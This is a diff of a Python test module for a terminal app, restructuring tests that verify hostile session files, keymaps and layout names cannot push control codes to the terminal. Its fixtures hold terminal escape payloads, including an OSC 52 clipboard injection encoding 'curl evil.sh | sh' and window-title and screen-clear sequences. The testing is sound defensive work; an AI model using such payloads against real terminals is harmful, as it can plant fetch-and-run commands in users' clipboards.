@@ -7,14 +7,19 @@ from __future__ import annotations
 import asyncio
 import json
 import re
+from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
+import pytest_asyncio
+from textual._compositor import LayoutUpdate
+from textual.pilot import Pilot
 
 from facilitator.store.session_file import write_new_session
 from facilitator.tui.app import FacilitatorApp
 from tests.tui.pane_sessions import outcome_session
-from tests.tui.screen_text import screen_text
+from tests.tui.screen_text import screen_text, wait_for_text, wait_until
+from tests.tui.tui_sessions import FakeClock
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # clipboard: `curl evil.sh | sh`
 OSC2 = "\x1b]2;pwned\x07"  # window title
@@ -31,6 +36,7 @@ DRAWN = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\d+;\d+H")
 def frame_bytes(app: FacilitatorApp) -> str:
     """The bytes the app would write to the terminal for a full repaint of the screen now."""
     update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
+    assert isinstance(update, LayoutUpdate)
     return update.render_segments(app.console)
 
 
@@ -56,9 +62,8 @@ def poison(value, key: str = ""):
     return value
 
 
-@pytest.fixture
-def hostile_session(tmp_path: Path) -> Path:
-    path = tmp_path / "hostile.json"
+def write_hostile_session(folder: Path) -> Path:
+    path = folder / "hostile.json"
     write_new_session(path, outcome_session())
     tables = json.loads(path.read_text(encoding="utf-8"))
     tables["session"]["1"] = poison(tables["session"]["1"])
@@ -66,22 +71,52 @@ def hostile_session(tmp_path: Path) -> Path:
     return path
 
 
-@pytest.fixture
-def hostile_keymap(tmp_path: Path) -> Path:
-    path = tmp_path / "keymap.toml"
+def write_hostile_keymap(folder: Path) -> Path:
+    path = folder / "keymap.toml"
     path.write_text('[keys]\n"export" = "ctrl+e\\u001b]2;pwned\\u0007"\n"x\\u001b[2J" = "f9"\n', encoding="utf-8")
     return path
 
 
-@pytest.fixture
-def hostile_layouts(tmp_path: Path, monkeypatch) -> Path:
-    folder = tmp_path / "layouts"
+def write_hostile_layouts(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Two user layouts with markup and control codes in their names, where the app looks for them."""
+    folder = folder / "layouts"
     folder.mkdir()
     box = '[[timeboxes]]\nkind = "framing"\ntitle = "Open \\u001b]2;pwned\\u0007 [/] up"\nminutes = 5\n'
     (folder / "ops.toml").write_text('name = "ops [/] weekly"\n' + box, encoding="utf-8")
     (folder / "ops2.toml").write_text('name = "ops [weekly]\\u001b]52;c;eA==\\u0007"\n' + box, encoding="utf-8")
     monkeypatch.setattr("facilitator.store.layouts.user_layouts_dir", lambda: folder)
     return folder
+
+
+@pytest.fixture
+def hostile_session(tmp_path: Path) -> Path:
+    return write_hostile_session(tmp_path)
+
+
+@pytest.fixture
+def hostile_layouts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    return write_hostile_layouts(tmp_path, monkeypatch)
+
+
+@pytest_asyncio.fixture(loop_scope="module", scope="module")
+async def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Pilot[int]]:
+    """One app for every pane's forms (starting it is most of the cost): a hostile session file,
+    hostile user layouts and a hostile keymap, at 120x40, back on its review screen between tests."""
+    folder = tmp_path_factory.mktemp("hostile")
+    with pytest.MonkeyPatch.context() as monkeypatch:
+        monkeypatch.setenv("FACILITATOR_CONFIG", str(folder / "config"))
+        monkeypatch.setenv("FACILITATOR_CACHE", str(folder / "cache"))
+        write_hostile_layouts(folder, monkeypatch)
+        app = FacilitatorApp(
+            session_path=write_hostile_session(folder), now=FakeClock(), keymap_file=write_hostile_keymap(folder)
+        )
+        async with app.run_test(size=(120, 40), notifications=True) as pilot:
+            await app.session_loaded.wait()  # (the tests' own pilot_once_open is per test, this app is not)
+            await pilot.pause()
+            assert app.review is not None, screen_text(app)
+            assert_only_drawing(app, "the first screen")
+            yield pilot
+            assert app.is_running
 
 
 FORMS = [
@@ -94,33 +129,30 @@ FORMS = [
     ("7", ["w", "t", "l"]),
     ("2", ["p", "g", "ctrl+e"]),
 ]
+"""Each pane's keys, each of which opens a dialog."""
 
 
-async def test_no_control_code_reaches_the_terminal_with_every_edit_form_open(
-    hostile_session: Path, hostile_keymap: Path, hostile_layouts: Path, clock
+@pytest.mark.asyncio(loop_scope="module")
+@pytest.mark.parametrize(("pane", "keys"), FORMS, ids=[f"{pane}-{'-'.join(keys)}" for pane, keys in FORMS])
+async def test_no_control_code_reaches_the_terminal_with_each_edit_form_open(
+    hostile_app: Pilot[int], pane: str, keys: list[str]
 ) -> None:
-    app = FacilitatorApp(session_path=hostile_session, now=clock, keymap_file=hostile_keymap)
-    async with app.run_test(size=(120, 40), notifications=True) as pilot:
-        assert app.review is not None, screen_text(app)
-        assert_only_drawing(app, "framing pane")
-        opened = 0
-        for pane, keys in FORMS:
-            await pilot.press(pane)
+    pilot, app = hostile_app, hostile_app.app
+    assert isinstance(app, FacilitatorApp)
+    await pilot.press(pane)
+    await pilot.pause()
+    assert_only_drawing(app, f"pane {pane}")
+    for key in keys:
+        await pilot.press(key)
+        await wait_until(pilot, lambda: len(app.screen_stack) > 2, f"the dialog key {key} opens on pane {pane}")
+        await pilot.pause()
+        assert_only_drawing(app, f"pane {pane}, key {key}")
+        while len(app.screen_stack) > 2:
+            await pilot.press("escape")
             await pilot.pause()
-            assert_only_drawing(app, f"pane {pane}")
-            for key in keys:
-                await pilot.press(key)
-                await pilot.pause()
-                if len(app.screen_stack) > 2:
-                    opened += 1
-                assert_only_drawing(app, f"pane {pane}, key {key}")
-                while len(app.screen_stack) > 2:
-                    await pilot.press("escape")
-                    await pilot.pause()
-        assert opened >= 15
-        assert app.is_running
-        stored = app.review.session
-        assert all("\x1b" not in e.text and "\ud800" not in e.text for e in stored.timeline)
+    assert app.is_running
+    stored = app.active_review.session
+    assert all("\x1b" not in e.text and "\ud800" not in e.text for e in stored.timeline)
 
 
 async def test_hostile_layout_names_show_as_written_in_the_new_session_form(
@@ -146,10 +178,7 @@ async def test_a_broken_file_is_one_line_in_the_picker_and_the_rest_still_show(t
     app = FacilitatorApp(sessions_folder=tmp_path, now=clock)
     async with asyncio.timeout(60):
         async with app.run_test(size=(120, 30)) as pilot:
-            for _ in range(100):
-                await pilot.pause(0.05)
-                if "Reading sessions" not in screen_text(app):
-                    break
+            await wait_until(pilot, lambda: "Reading sessions" not in screen_text(app), "the folder read")
             shown = screen_text(app)
             assert "Checkout latency" in shown
             assert "huge.json  (cannot open:" in shown and "deep.json  (cannot open:" in shown
@@ -190,10 +219,7 @@ async def test_any_save_failure_shows_the_banner_and_ctrl_q_asks_instead_of_a_tr
     app = FacilitatorApp(session_path=hostile_session, now=clock)
     async with app.run_test(size=(100, 30), notifications=True) as pilot:
         await pilot.press("2", "d")
-        await pilot.pause(0.7)
-        await app.workers.wait_for_complete()
-        await pilot.pause()
-        shown = screen_text(app)
+        shown = await wait_for_text(pilot, "NOT SAVED")  # the autosave runs 0.5 s after an edit
         assert "NOT SAVED: the text could not be written out" in shown
         await pilot.press("ctrl+q")
         await pilot.pause()
